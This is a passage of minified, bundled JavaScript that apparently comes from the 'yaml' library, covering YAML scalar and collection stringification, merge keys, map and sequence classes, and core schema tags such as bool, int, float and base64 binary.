`);h===-1?p="-":t===f||h!==f.length-1?(p="+",r&&r()):p="",f&&(t=t.slice(0,-f.length),f[f.length-1]===`
`&&(f=f.slice(0,-1)),f=f.replace(zl,`$&${l}`));let m=!1,g,w=-1;for(g=0;g<t.length;++g){let A=t[g];if(A===" ")m=!0;else if(A===`
`)w=g;else break}let v=t.substring(0,w<g?w+1:g);v&&(t=t.substring(v.length),v=v.replace(/\n+/g,`$&${l}`));let S=(m?l?"2":"1":"")+p;if(n&&(S+=" "+a(n.replace(/ ?[\r\n]+/g," ")),i&&i()),!u){let A=t.replace(/\n+/g,`
$&`).replace(/(?:^|\n)([\t ].*)(?:([\n\t ]*)\n(?![\n\t ]))?/g,"$1$2").replace(/\n+/g,`$&${l}`),C=!1,E=Co(s,!0);o!=="folded"&&e!==ht.Scalar.BLOCK_FOLDED&&(E.onOverflow=()=>{C=!0});let _=Kt.foldFlowLines(`${v}${A}${f}`,l,Kt.FOLD_BLOCK,E);if(!C)return`>${S}
${l}${_}`}return t=t.replace(/\n+/g,`$&${l}`),`|${S}
${l}${v}${t}${f}`}function SM(n,e,t,s){let{type:i,value:r}=n,{actualString:o,implicitKey:a,indent:c,indentStep:l,inFlow:u}=e;if(a&&r.includes(`
`)||u&&/[[\]{},]/.test(r))return ds(r,e);if(/^[\n\t ,[\]{}#&*!|>'"%@`]|^[?-]$|^[?-][ \t]|[\n:][ \t]|[ \t]\n|[\n\t ]#|[\n\t :]$/.test(r))return a||u||!r.includes(`
`)?ds(r,e):$o(n,e,t,s);if(!a&&!u&&i!==ht.Scalar.PLAIN&&r.includes(`
`))return $o(n,e,t,s);if(Do(r)){if(c==="")return e.forceBlockIndent=!0,$o(n,e,t,s);if(a&&c===l)return ds(r,e)}let p=r.replace(/\n+/g,`$&
${c}`);if(o){let d=m=>m.default&&m.tag!=="tag:yaml.org,2002:str"&&m.test?.test(p),{compat:f,tags:h}=e.doc.schema;if(h.some(d)||f?.some(d))return ds(r,e)}return a?p:Kt.foldFlowLines(p,c,Kt.FOLD_FLOW,Co(e,!1))}function MM(n,e,t,s){let{implicitKey:i,inFlow:r}=e,o=typeof n.value=="string"?n:Object.assign({},n,{value:String(n.value)}),{type:a}=n;a!==ht.Scalar.QUOTE_DOUBLE&&/[\x00-\x08\x0b-\x1f\x7f-\x9f\u{D800}-\u{DFFF}]/u.test(o.value)&&(a=ht.Scalar.QUOTE_DOUBLE);let c=u=>{switch(u){case ht.Scalar.BLOCK_FOLDED:case ht.Scalar.BLOCK_LITERAL:return i||r?ds(o.value,e):$o(o,e,t,s);case ht.Scalar.QUOTE_DOUBLE:return ui(o.value,e);case ht.Scalar.QUOTE_SINGLE:return Vl(o.value,e);case ht.Scalar.PLAIN:return SM(o,e,t,s);default:return null}},l=c(a);if(l===null){let{defaultKeyType:u,defaultStringType:p}=e.options,d=i&&u||p;if(l=c(d),l===null)throw new Error(`Unsupported default string type ${d}`)}return l}wg.stringifyString=MM});var di=D(Kl=>{"use strict";var AM=Oo(),Jt=ee(),NM=ci(),EM=pi();function _M(n,e){let t=Object.assign({blockQuote:!0,commentString:NM.stringifyComment,defaultKeyType:null,defaultStringType:"PLAIN",directives:null,doubleQuotedAsJSON:!1,doubleQuotedMinMultiLineLength:40,falseStr:"false",flowCollectionPadding:!0,indentSeq:!0,lineWidth:80,minContentWidth:20,nullStr:"null",simpleKeys:!1,singleQuote:null,trailingComma:!1,trueStr:"true",verifyAliasOrder:!0},n.schema.toStringOptions,e),s;switch(t.collectionStyle){case"block":s=!1;break;case"flow":s=!0;break;default:s=null}return{anchors:new Set,doc:n,flowCollectionPadding:t.flowCollectionPadding?" ":"",indent:"",indentStep:typeof t.indent=="number"?" ".repeat(t.indent):"  ",inFlow:s,options:t}}function $M(n,e){if(e.tag){let i=n.filter(r=>r.tag===e.tag);if(i.length>0)return i.find(r=>r.format===e.format)??i[0]}let t,s;if(Jt.isScalar(e)){s=e.value;let i=n.filter(r=>r.identify?.(s));if(i.length>1){let r=i.filter(o=>o.test);r.length>0&&(i=r)}t=i.find(r=>r.format===e.format)??i.find(r=>!r.format)}else s=e,t=n.find(i=>i.nodeClass&&s instanceof i.nodeClass);if(!t){let i=s?.constructor?.name??(s===null?"null":typeof s);throw new Error(`Tag not resolved for ${i} value`)}return t}function CM(n,e,{anchors:t,doc:s}){if(!s.directives)return"";let i=[],r=(Jt.isScalar(n)||Jt.isCollection(n))&&n.anchor;r&&AM.anchorIsValid(r)&&(t.add(r),i.push(`&${r}`));let o=n.tag??(e.default?null:e.tag);return o&&i.push(s.directives.tagString(o)),i.join(" ")}function DM(n,e,t,s){if(Jt.isPair(n))return n.toString(e,t,s);if(Jt.isAlias(n)){if(e.doc.directives)return n.toString(e);if(e.resolvedAliases?.has(n))throw new TypeError("Cannot stringify circular structure without alias nodes");e.resolvedAliases?e.resolvedAliases.add(n):e.resolvedAliases=new Set([n]),n=n.resolve(e.doc)}let i,r=Jt.isNode(n)?n:e.doc.createNode(n,{onTagObj:c=>i=c});i??(i=$M(e.doc.schema.tags,r));let o=CM(r,i,e);o.length>0&&(e.indentAtStart=(e.indentAtStart??0)+o.length+1);let a=typeof i.stringify=="function"?i.stringify(r,e,t,s):Jt.isScalar(r)?EM.stringifyString(r,e,t,s):r.toString(e,t,s);return o?Jt.isScalar(r)||a[0]==="{"||a[0]==="["?`${o} ${a}`:`${o}
${e.indent}${a}`:a}Kl.createStringifyContext=_M;Kl.stringify=DM});var Rg=D(xg=>{"use strict";var Lt=ee(),vg=Re(),kg=di(),fi=ci();function FM({key:n,value:e},t,s,i){let{allNullValues:r,doc:o,indent:a,indentStep:c,options:{commentString:l,indentSeq:u,simpleKeys:p}}=t,d=Lt.isNode(n)&&n.comment||null;if(p){if(d)throw new Error("With simple keys, key nodes cannot have comments");if(Lt.isCollection(n)||!Lt.isNode(n)&&typeof n=="object"){let E="With simple keys, collection cannot be used as a key value";throw new Error(E)}}let f=!p&&(!n||d&&e==null&&!t.inFlow||Lt.isCollection(n)||(Lt.isScalar(n)?n.type===vg.Scalar.BLOCK_FOLDED||n.type===vg.Scalar.BLOCK_LITERAL:typeof n=="object"));t=Object.assign({},t,{allNullValues:!1,implicitKey:!f&&(p||!r),indent:a+c});let h=!1,m=!1,g=kg.stringify(n,t,()=>h=!0,()=>m=!0);if(!f&&!t.inFlow&&g.length>1024){if(p)throw new Error("With simple keys, single line scalar must not span more than 1024 characters");f=!0}if(t.inFlow){if(r||e==null)return h&&s&&s(),g===""?"?":f?`? ${g}`:g}else if(r&&!p||e==null&&f)return g=`? ${g}`,d&&!h?g+=fi.lineComment(g,t.indent,l(d)):m&&i&&i(),g;h&&(d=null),f?(d&&(g+=fi.lineComment(g,t.indent,l(d))),g=`? ${g}
${a}:`):(g=`${g}:`,d&&(g+=fi.lineComment(g,t.indent,l(d))));let w,v,O;Lt.isNode(e)?(w=!!e.spaceBefore,v=e.commentBefore,O=e.comment):(w=!1,v=null,O=null,e&&typeof e=="object"&&(e=o.createNode(e))),t.implicitKey=!1,!f&&!d&&Lt.isScalar(e)&&(t.indentAtStart=g.length+1),m=!1,!u&&c.length>=2&&!t.inFlow&&!f&&Lt.isSeq(e)&&!e.flow&&!e.tag&&!e.anchor&&(t.indent=t.indent.substring(2));let S=!1,A=kg.stringify(e,t,()=>S=!0,()=>m=!0),C=" ";if(d||w||v){if(C=w?`
`:"",v){let E=l(v);C+=`
${fi.indentComment(E,t.indent)}`}A===""&&!t.inFlow?C===`
`&&O&&(C=`

`):C+=`
${t.indent}`}else if(!f&&Lt.isCollection(e)){let E=A[0],_=A.indexOf(`
`),q=_!==-1,me=t.inFlow??e.flow??e.items.length===0;if(q||!me){let we=!1;if(q&&(E==="&"||E==="!")){let ue=A.indexOf(" ");E==="&"&&ue!==-1&&ue<_&&A[ue+1]==="!"&&(ue=A.indexOf(" ",ue+1)),(ue===-1||_<ue)&&(we=!0)}we||(C=`
${t.indent}`)}}else(A===""||A[0]===`
`)&&(C="");return g+=C+A,t.inFlow?S&&s&&s():O&&!S?g+=fi.lineComment(g,t.indent,l(O)):m&&i&&i(),g}xg.stringifyPair=FM});var Xl=D(Jl=>{"use strict";var Og=require("process");function TM(n,...e){n==="debug"&&console.log(...e)}function LM(n,e){(n==="debug"||n==="warn")&&(typeof Og.emitWarning=="function"?Og.emitWarning(e):console.warn(e))}Jl.debug=TM;Jl.warn=LM});var Po=D(Io=>{"use strict";var Lo=ee(),Sg=Re(),Fo="<<",To={identify:n=>n===Fo||typeof n=="symbol"&&n.description===Fo,default:"key",tag:"tag:yaml.org,2002:merge",test:/^<<$/,resolve:()=>Object.assign(new Sg.Scalar(Symbol(Fo)),{addToJSMap:Mg}),stringify:()=>Fo},IM=(n,e)=>(To.identify(e)||Lo.isScalar(e)&&(!e.type||e.type===Sg.Scalar.PLAIN)&&To.identify(e.value))&&n?.doc.schema.tags.some(t=>t.tag===To.tag&&t.default);function Mg(n,e,t){let s=Ag(n,t);if(Lo.isSeq(s))for(let i of s.items)Zl(n,e,i);else if(Array.isArray(s))for(let i of s)Zl(n,e,i);else Zl(n,e,s)}function Zl(n,e,t){let s=Ag(n,t);if(!Lo.isMap(s))throw new Error("Merge sources must be maps or map aliases");let i=s.toJSON(null,n,Map);for(let[r,o]of i)e instanceof Map?e.has(r)||e.set(r,o):e instanceof Set?e.add(r):Object.prototype.hasOwnProperty.call(e,r)||Object.defineProperty(e,r,{value:o,writable:!0,enumerable:!0,configurable:!0});return e}function Ag(n,e){return n&&Lo.isAlias(e)?e.resolve(n.doc,n):e}Io.addMergeToJSMap=Mg;Io.isMergeKey=IM;Io.merge=To});var eu=D(_g=>{"use strict";var PM=Xl(),Ng=Po(),jM=di(),Eg=ee(),Ql=Vt();function qM(n,e,{key:t,value:s}){if(Eg.isNode(t)&&t.addToJSMap)t.addToJSMap(n,e,s);else if(Ng.isMergeKey(n,t))Ng.addMergeToJSMap(n,e,s);else{let i=Ql.toJS(t,"",n);if(e instanceof Map)e.set(i,Ql.toJS(s,i,n));else if(e instanceof Set)e.add(i);else{let r=UM(t,i,n),o=Ql.toJS(s,r,n);r in e?Object.defineProperty(e,r,{value:o,writable:!0,enumerable:!0,configurable:!0}):e[r]=o}}return e}function UM(n,e,t){if(e===null)return"";if(typeof e!="object")return String(e);if(Eg.isNode(n)&&t?.doc){let s=jM.createStringifyContext(t.doc,{});s.anchors=new Set;for(let r of t.anchors.keys())s.anchors.add(r.anchor);s.inFlow=!0,s.inStringifyKey=!0;let i=n.toString(s);if(!t.mapKeyWarned){let r=JSON.stringify(i);r.length>40&&(r=r.substring(0,36)+'..."'),PM.warn(t.doc.options.logLevel,`Keys with collection values will be stringified due to JS Object restrictions: ${r}. Set mapAsMap: true to use object keys.`),t.mapKeyWarned=!0}return i}return JSON.stringify(e)}_g.addPairToJSMap=qM});var Xt=D(tu=>{"use strict";var $g=ai(),HM=Rg(),YM=eu(),jo=ee();function WM(n,e,t){let s=$g.createNode(n,void 0,t),i=$g.createNode(e,void 0,t);return new qo(s,i)}var qo=class n{constructor(e,t=null){Object.defineProperty(this,jo.NODE_TYPE,{value:jo.PAIR}),this.key=e,this.value=t}clone(e){let{key:t,value:s}=this;return jo.isNode(t)&&(t=t.clone(e)),jo.isNode(s)&&(s=s.clone(e)),new n(t,s)}toJSON(e,t){let s=t?.mapAsMap?new Map:{};return YM.addPairToJSMap(t,s,this)}toString(e,t,s){return e?.doc?HM.stringifyPair(this,e,t,s):JSON.stringify(this)}};tu.Pair=qo;tu.createPair=WM});var nu=D(Dg=>{"use strict";var Sn=ee(),Cg=di(),Uo=ci();function BM(n,e,t){return(e.inFlow??n.flow?VM:GM)(n,e,t)}function GM({comment:n,items:e},t,{blockItemPrefix:s,flowChars:i,itemIndent:r,onChompKeep:o,onComment:a}){let{indent:c,options:{commentString:l}}=t,u=Object.assign({},t,{indent:r,type:null}),p=!1,d=[];for(let h=0;h<e.length;++h){let m=e[h],g=null;if(Sn.isNode(m))!p&&m.spaceBefore&&d.push(""),Ho(t,d,m.commentBefore,p),m.comment&&(g=m.comment);else if(Sn.isPair(m)){let v=Sn.isNode(m.key)?m.key:null;v&&(!p&&v.spaceBefore&&d.push(""),Ho(t,d,v.commentBefore,p))}p=!1;let w=Cg.stringify(m,u,()=>g=null,()=>p=!0);g&&(w+=Uo.lineComment(w,r,l(g))),p&&g&&(p=!1),d.push(s+w)}let f;if(d.length===0)f=i.start+i.end;else{f=d[0];for(let h=1;h<d.length;++h){let m=d[h];f+=m?`
${c}${m}`:`
`}}return n?(f+=`
`+Uo.indentComment(l(n),c),a&&a()):p&&o&&o(),f}function VM({items:n},e,{flowChars:t,itemIndent:s}){let{indent:i,indentStep:r,flowCollectionPadding:o,options:{commentString:a}}=e;s+=r;let c=Object.assign({},e,{indent:s,inFlow:!0,type:null}),l=!1,u=0,p=[];for(let h=0;h<n.length;++h){let m=n[h],g=null;if(Sn.isNode(m))m.spaceBefore&&p.push(""),Ho(e,p,m.commentBefore,!1),m.comment&&(g=m.comment);else if(Sn.isPair(m)){let v=Sn.isNode(m.key)?m.key:null;v&&(v.spaceBefore&&p.push(""),Ho(e,p,v.commentBefore,!1),v.comment&&(l=!0));let O=Sn.isNode(m.value)?m.value:null;O?(O.comment&&(g=O.comment),O.commentBefore&&(l=!0)):m.value==null&&v?.comment&&(g=v.comment)}g&&(l=!0);let w=Cg.stringify(m,c,()=>g=null);l||(l=p.length>u||w.includes(`
`)),h<n.length-1?w+=",":e.options.trailingComma&&(e.options.lineWidth>0&&(l||(l=p.reduce((v,O)=>v+O.length+2,2)+(w.length+2)>e.options.lineWidth)),l&&(w+=",")),g&&(w+=Uo.lineComment(w,s,a(g))),p.push(w),u=p.length}let{start:d,end:f}=t;if(p.length===0)return d+f;if(!l){let h=p.reduce((m,g)=>m+g.length+2,2);l=e.options.lineWidth>0&&h>e.options.lineWidth}if(l){let h=d;for(let m of p)h+=m?`
${r}${i}${m}`:`
`;return`${h}
${i}${f}`}else return`${d}${o}${p.join(" ")}${o}${f}`}function Ho({indent:n,options:{commentString:e}},t,s,i){if(s&&i&&(s=s.replace(/^\n+/,"")),s){let r=Uo.indentComment(e(s),n);t.push(r.trimStart())}}Dg.stringifyCollection=BM});var Qt=D(iu=>{"use strict";var zM=nu(),KM=eu(),JM=No(),Zt=ee(),Yo=Xt(),XM=Re();function hi(n,e){let t=Zt.isScalar(e)?e.value:e;for(let s of n)if(Zt.isPair(s)&&(s.key===e||s.key===t||Zt.isScalar(s.key)&&s.key.value===t))return s}var su=class extends JM.Collection{static get tagName(){return"tag:yaml.org,2002:map"}constructor(e){super(Zt.MAP,e),this.items=[]}static from(e,t,s){let{keepUndefined:i,replacer:r}=s,o=new this(e),a=(c,l)=>{if(typeof r=="function")l=r.call(t,c,l);else if(Array.isArray(r)&&!r.includes(c))return;(l!==void 0||i)&&o.items.push(Yo.createPair(c,l,s))};if(t instanceof Map)for(let[c,l]of t)a(c,l);else if(t&&typeof t=="object")for(let c of Object.keys(t))a(c,t[c]);return typeof e.sortMapEntries=="function"&&o.items.sort(e.sortMapEntries),o}add(e,t){let s;Zt.isPair(e)?s=e:!e||typeof e!="object"||!("key"in e)?s=new Yo.Pair(e,e?.value):s=new Yo.Pair(e.key,e.value);let i=hi(this.items,s.key),r=this.schema?.sortMapEntries;if(i){if(!t)throw new Error(`Key ${s.key} already set`);Zt.isScalar(i.value)&&XM.isScalarValue(s.value)?i.value.value=s.value:i.value=s.value}else if(r){let o=this.items.findIndex(a=>r(s,a)<0);o===-1?this.items.push(s):this.items.splice(o,0,s)}else this.items.push(s)}delete(e){let t=hi(this.items,e);return t?this.items.splice(this.items.indexOf(t),1).length>0:!1}get(e,t){let i=hi(this.items,e)?.value;return(!t&&Zt.isScalar(i)?i.value:i)??void 0}has(e){return!!hi(this.items,e)}set(e,t){this.add(new Yo.Pair(e,t),!0)}toJSON(e,t,s){let i=s?new s:t?.mapAsMap?new Map:{};t?.onCreate&&t.onCreate(i);for(let r of this.items)KM.addPairToJSMap(t,i,r);return i}toString(e,t,s){if(!e)return JSON.stringify(this);for(let i of this.items)if(!Zt.isPair(i))throw new Error(`Map items must all be pairs; found ${JSON.stringify(i)} instead`);return!e.allNullValues&&this.hasAllNullValues(!1)&&(e=Object.assign({},e,{allNullValues:!0})),zM.stringifyCollection(this,e,{blockItemPrefix:"",flowChars:{start:"{",end:"}"},itemIndent:e.indent||"",onChompKeep:s,onComment:t})}};iu.YAMLMap=su;iu.findPair=hi});var fs=D(Tg=>{"use strict";var ZM=ee(),Fg=Qt(),QM={collection:"map",default:!0,nodeClass:Fg.YAMLMap,tag:"tag:yaml.org,2002:map",resolve(n,e){return ZM.isMap(n)||e("Expected a mapping for this tag"),n},createNode:(n,e,t)=>Fg.YAMLMap.from(n,e,t)};Tg.map=QM});var en=D(Lg=>{"use strict";var eA=ai(),tA=nu(),nA=No(),Bo=ee(),sA=Re(),iA=Vt(),ru=class extends nA.Collection{static get tagName(){return"tag:yaml.org,2002:seq"}constructor(e){super(Bo.SEQ,e),this.items=[]}add(e){this.items.push(e)}delete(e){let t=Wo(e);return typeof t!="number"?!1:this.items.splice(t,1).length>0}get(e,t){let s=Wo(e);if(typeof s!="number")return;let i=this.items[s];return!t&&Bo.isScalar(i)?i.value:i}has(e){let t=Wo(e);return typeof t=="number"&&t<this.items.length}set(e,t){let s=Wo(e);if(typeof s!="number")throw new Error(`Expected a valid index, not ${e}.`);let i=this.items[s];Bo.isScalar(i)&&sA.isScalarValue(t)?i.value=t:this.items[s]=t}toJSON(e,t){let s=[];t?.onCreate&&t.onCreate(s);let i=0;for(let r of this.items)s.push(iA.toJS(r,String(i++),t));return s}toString(e,t,s){return e?tA.stringifyCollection(this,e,{blockItemPrefix:"- ",flowChars:{start:"[",end:"]"},itemIndent:(e.indent||"")+"  ",onChompKeep:s,onComment:t}):JSON.stringify(this)}static from(e,t,s){let{replacer:i}=s,r=new this(e);if(t&&Symbol.iterator in Object(t)){let o=0;for(let a of t){if(typeof i=="function"){let c=t instanceof Set?a:String(o++);a=i.call(t,c,a)}r.items.push(eA.createNode(a,void 0,s))}}return r}};function Wo(n){let e=Bo.isScalar(n)?n.value:n;return e&&typeof e=="string"&&(e=Number(e)),typeof e=="number"&&Number.isInteger(e)&&e>=0?e:null}Lg.YAMLSeq=ru});var hs=D(Pg=>{"use strict";var rA=ee(),Ig=en(),oA={collection:"seq",default:!0,nodeClass:Ig.YAMLSeq,tag:"tag:yaml.org,2002:seq",resolve(n,e){return rA.isSeq(n)||e("Expected a sequence for this tag"),n},createNode:(n,e,t)=>Ig.YAMLSeq.from(n,e,t)};Pg.seq=oA});var mi=D(jg=>{"use strict";var aA=pi(),cA={identify:n=>typeof n=="string",default:!0,tag:"tag:yaml.org,2002:str",resolve:n=>n,stringify(n,e,t,s){return e=Object.assign({actualString:!0},e),aA.stringifyString(n,e,t,s)}};jg.string=cA});var Go=D(Hg=>{"use strict";var qg=Re(),Ug={identify:n=>n==null,createNode:()=>new qg.Scalar(null),default:!0,tag:"tag:yaml.org,2002:null",test:/^(?:~|[Nn]ull|NULL)?$/,resolve:()=>new qg.Scalar(null),stringify:({source:n},e)=>typeof n=="string"&&Ug.test.test(n)?n:e.options.nullStr};Hg.nullTag=Ug});var ou=D(Wg=>{"use strict";var lA=Re(),Yg={identify:n=>typeof n=="boolean",default:!0,tag:"tag:yaml.org,2002:bool",test:/^(?:[Tt]rue|TRUE|[Ff]alse|FALSE)$/,resolve:n=>new lA.Scalar(n[0]==="t"||n[0]==="T"),stringify({source:n,value:e},t){if(n&&Yg.test.test(n)){let s=n[0]==="t"||n[0]==="T";if(e===s)return n}return e?t.options.trueStr:t.options.falseStr}};Wg.boolTag=Yg});var ms=D(Bg=>{"use strict";function uA({format:n,minFractionDigits:e,tag:t,value:s}){if(typeof s=="bigint")return String(s);let i=typeof s=="number"?s:Number(s);if(!isFinite(i))return isNaN(i)?".nan":i<0?"-.inf":".inf";let r=Object.is(s,-0)?"-0":JSON.stringify(s);if(!n&&e&&(!t||t==="tag:yaml.org,2002:float")&&/^-?\d/.test(r)&&!r.includes("e")){let o=r.indexOf(".");o<0&&(o=r.length,r+=".");let a=e-(r.length-o-1);for(;a-- >0;)r+="0"}return r}Bg.stringifyNumber=uA});var cu=D(Vo=>{"use strict";var pA=Re(),au=ms(),dA={identify:n=>typeof n=="number",default:!0,tag:"tag:yaml.org,2002:float",test:/^(?:[-+]?\.(?:inf|Inf|INF)|\.nan|\.NaN|\.NAN)$/,resolve:n=>n.slice(-3).toLowerCase()==="nan"?NaN:n[0]==="-"?Number.NEGATIVE_INFINITY:Number.POSITIVE_INFINITY,stringify:au.stringifyNumber},fA={identify:n=>typeof n=="number",default:!0,tag:"tag:yaml.org,2002:float",format:"EXP",test:/^[-+]?(?:\.[0-9]+|[0-9]+(?:\.[0-9]*)?)[eE][-+]?[0-9]+$/,resolve:n=>parseFloat(n),stringify(n){let e=Number(n.value);return isFinite(e)?e.toExponential():au.stringifyNumber(n)}},hA={identify:n=>typeof n=="number",default:!0,tag:"tag:yaml.org,2002:float",test:/^[-+]?(?:\.[0-9]+|[0-9]+\.[0-9]*)$/,resolve(n){let e=new pA.Scalar(parseFloat(n)),t=n.indexOf(".");return t!==-1&&n[n.length-1]==="0"&&(e.minFractionDigits=n.length-t-1),e},stringify:au.stringifyNumber};Vo.float=hA;Vo.floatExp=fA;Vo.floatNaN=dA});var uu=D(Ko=>{"use strict";var Gg=ms(),zo=n=>typeof n=="bigint"||Number.isInteger(n),lu=(n,e,t,{intAsBigInt:s})=>s?BigInt(n):parseInt(n.substring(e),t);function Vg(n,e,t){let{value:s}=n;return zo(s)&&s>=0?t+s.toString(e):Gg.stringifyNumber(n)}var mA={identify:n=>zo(n)&&n>=0,default:!0,tag:"tag:yaml.org,2002:int",format:"OCT",test:/^0o[0-7]+$/,resolve:(n,e,t)=>lu(n,2,8,t),stringify:n=>Vg(n,8,"0o")},gA={identify:zo,default:!0,tag:"tag:yaml.org,2002:int",test:/^[-+]?[0-9]+$/,resolve:(n,e,t)=>lu(n,0,10,t),stringify:Gg.stringifyNumber},yA={identify:n=>zo(n)&&n>=0,default:!0,tag:"tag:yaml.org,2002:int",format:"HEX",test:/^0x[0-9a-fA-F]+$/,resolve:(n,e,t)=>lu(n,2,16,t),stringify:n=>Vg(n,16,"0x")};Ko.int=gA;Ko.intHex=yA;Ko.intOct=mA});var Kg=D(zg=>{"use strict";var bA=fs(),wA=Go(),vA=hs(),kA=mi(),xA=ou(),pu=cu(),du=uu(),RA=[bA.map,vA.seq,kA.string,wA.nullTag,xA.boolTag,du.intOct,du.int,du.intHex,pu.floatNaN,pu.floatExp,pu.float];zg.schema=RA});var Zg=D(Xg=>{"use strict";var OA=Re(),SA=fs(),MA=hs();function Jg(n){return typeof n=="bigint"||Number.isInteger(n)}var Jo=({value:n})=>JSON.stringify(n),AA=[{identify:n=>typeof n=="string",default:!0,tag:"tag:yaml.org,2002:str",resolve:n=>n,stringify:Jo},{identify:n=>n==null,createNode:()=>new OA.Scalar(null),default:!0,tag:"tag:yaml.org,2002:null",test:/^null$/,resolve:()=>null,stringify:Jo},{identify:n=>typeof n=="boolean",default:!0,tag:"tag:yaml.org,2002:bool",test:/^true$|^false$/,resolve:n=>n==="true",stringify:Jo},{identify:Jg,default:!0,tag:"tag:yaml.org,2002:int",test:/^-?(?:0|[1-9][0-9]*)$/,resolve:(n,e,{intAsBigInt:t})=>t?BigInt(n):parseInt(n,10),stringify:({value:n})=>Jg(n)?n.toString():JSON.stringify(n)},{identify:n=>typeof n=="number",default:!0,tag:"tag:yaml.org,2002:float",test:/^-?(?:0|[1-9][0-9]*)(?:\.[0-9]*)?(?:[eE][-+]?[0-9]+)?$/,resolve:n=>parseFloat(n),stringify:Jo}],NA={default:!0,tag:"",test:/^/,resolve(n,e){return e(`Unresolved plain scalar ${JSON.stringify(n)}`),n}},EA=[SA.map,MA.seq].concat(AA,NA);Xg.schema=EA});var hu=D(Qg=>{"use strict";var gi=require("buffer"),fu=Re(),_A=pi(),$A={identify:n=>n instanceof Uint8Array,default:!1,tag:"tag:yaml.org,2002:binary",resolve(n,e){if(typeof gi.Buffer=="function")return gi.Buffer.from(n,"base64");if(typeof atob=="function"){let t=atob(n.replace(/[\n\r]/g,"")),s=new Uint8Array(t.length);for(let i=0;i<t.length;++i)s[i]=t.charCodeAt(i);return s}else return e("This environment does not support reading binary tags; either Buffer or atob is required"),n},stringify({comment:n,type:e,value:t},s,i,r){if(!t)return"";let o=t,a;if(typeof gi.Buffer=="function")a=o instanceof gi.Buffer?o.toString("base64"):gi.Buffer.from(o.buffer).toString("base64");else if(typeof btoa=="function"){let c="";for(let l=0;l<o.length;++l)c+=String.fromCharCode(o[l]);a=btoa(c)}else throw new Error("This environment does not support writing binary tags; either Buffer or btoa is required");if(e??(e=fu.Scalar.BLOCK_LITERAL),e!==fu.Scalar.QUOTE_DOUBLE){let c=Math.max(s.options.lineWidth-s.indent.length,s.options.minContentWidth),l=Math.ceil(a.length/c),u=new Array(l);for(let p=0,d=0;p<l;++p,d+=c)u[p]=a.substr(d,c);a=u.join(e===fu.Scalar.BLOCK_LITERAL?`
`:" ")}return _A.stringifyString({comment:n,type:e,value:a},s,i,r)}};Qg.binary=$A});var Qo=D(Zo=>{"use strict";var Xo=ee(),mu=Xt(),CA=Re(),DA=en();function ey(n,e){if(Xo.isSeq(n))for(let t=0;t<n.items.length;++t){let s=n.items[t];if(!Xo.isPair(s)){if(Xo.isMap(s)){s.items.length>1&&e("Each pair must have its own sequence indicator");let i=s.items[0]||new mu.Pair(new CA.Scalar(null));if(s.commentBefore&&(i.key.commentBefore=i.key.commentBefore?`${s.commentBefore}
${i.key.commentBefore}`:s.commentBefore),s.comment){let r=i.value??i.key;r.comment=r.comment?`${s.comment}
${r.comment}`:s.comment}s=i}n.items[t]=Xo.isPair(s)?s:new mu.Pair(s)}}else e("Expected a sequence for this tag");return n}function ty(n,e,t){let{replacer:s}=t,i=new DA.YAMLSeq(n);i.tag="tag:yaml.org,2002:pairs";let r=0;if(e&&Symbol.iterator in Object(e))for(let o of e){typeof s=="function"&&(o=s.call(e,String(r++),o));let a,c;if(Array.isArray(o))if(o.length===2)a=o[0],c=o[1];else throw new TypeError(`Expected [key, value] tuple: ${o}`);else if(o&&o instanceof Object){let l=Object.keys(o);if(l.length===1)a=l[0],c=o[a];else throw new TypeError(`Expected tuple with one key, not ${l.length} keys`)}else a=o;i.items.push(mu.createPair(a,c,t))}return i}var FA={collection:"seq",default:!1,tag:"tag:yaml.org,2002:pairs",resolve:ey,createNode:ty};Zo.createPairs=ty;Zo.pairs=FA;Zo.resolvePairs=ey});var bu=D(yu=>{"use strict";var ny=ee(),gu=Vt(),yi=Qt(),TA=en(),sy=Qo(),Mn=class n extends TA.YAMLSeq{constructor(){super(),this.add=yi.YAMLMap.prototype.add.bind(this),this.delete=yi.YAMLMap.prototype.delete.bind(this),this.get=yi.YAMLMap.prototype.get.bind(this),this.has=yi.YAMLMap.prototype.has.bind(this),this.set=yi.YAMLMap.prototype.set.bind(this),this.tag=n.tag}toJSON(e,t){if(!t)return super.toJSON(e);let s=new Map;t?.onCreate&&t.onCreate(s);for(let i of this.items){let r,o;if(ny.isPair(i)?(r=gu.toJS(i.key,"",t),o=gu.toJS(i.value,r,t)):r=gu.toJS(i,"",t),s.has(r))throw new Error("Ordered maps must not include duplicate keys");s.set(r,o)}return s}static from(e,t,s){let i=sy.createPairs(e,t,s),r=new this;return r.items=i.items,r}};Mn.tag="tag:yaml.org,2002:omap";var LA={collection:"seq",identify:n=>n instanceof Map,nodeClass:Mn,default:!1,tag:"tag:yaml.org,2002:omap",resolve(n,e){let t=sy.resolvePairs(n,e),s=[];for(let{key:i}of t.items)ny.isScalar(i)&&(s.includes(i.value)?e(`Ordered maps must not include duplicate keys: ${i.value}`):s.push(i.value));return Object.assign(new Mn,t)},createNode:(n,e,t)=>Mn.from(n,e,t)};yu.YAMLOMap=Mn;yu.omap=LA});var cy=D(wu=>{"use strict";var iy=Re();function ry({value:n,source:e},t){return e&&(n?oy:ay).test.test(e)?e:n?t.options.trueStr:t.options.falseStr}var oy={identify:n=>n===!0,default:!0,tag:"tag:yaml.org,2002:bool",test:/^(?:Y|y|[Yy]es|YES|[Tt]rue|TRUE|[Oo]n|ON)$/,resolve:()=>new iy.Scalar(!0),stringify:ry},ay={identify:n=>n===!1,default:!0,tag:"tag:yaml.org,2002:bool",test:/^(?:N|n|[Nn]o|NO|[Ff]alse|FALSE|[Oo]ff|OFF)$/,resolve:()=>new iy.Scalar(!1),stringify:ry};wu.falseTag=ay;wu.trueTag=oy});var ly=D(ea=>{"use strict";var IA=Re(),vu=ms(),PA={identify:n=>typeof n=="number",default:!0,tag:"tag:yaml.org,2002:float",test:/^(?:[-+]?\.(?:inf|Inf|INF)|\.nan|\.NaN|\.NAN)$/,resolve:n=>n.slice(-3).toLowerCase()==="nan"?NaN:n[0]==="-"?Number.NEGATIVE_INFINITY:Number.POSITIVE_INFINITY,stringify:vu.stringifyNumber},jA={identify:n=>typeof n=="number",default:!0,tag:"tag:yaml.org,2002:float",format:"EXP",test:/^[-+]?(?:[0-9][0-9_]*)?(?:\.[0-9_]*)?[eE][-+]?[0-9]+$/,resolve:n=>parseFloat(n.replace(/_/g,"")),stringify(n){let e=Number(n.value);return isFinite(e)?e.toExponential():vu.stringifyNumber(n)}},qA={identify:n=>typeof n=="number",default:!0,tag:"tag:yaml.org,2002:float",test:/^[-+]?(?:[0-9][0-9_]*)?\.[0-9_]*$/,resolve(n){let e=new 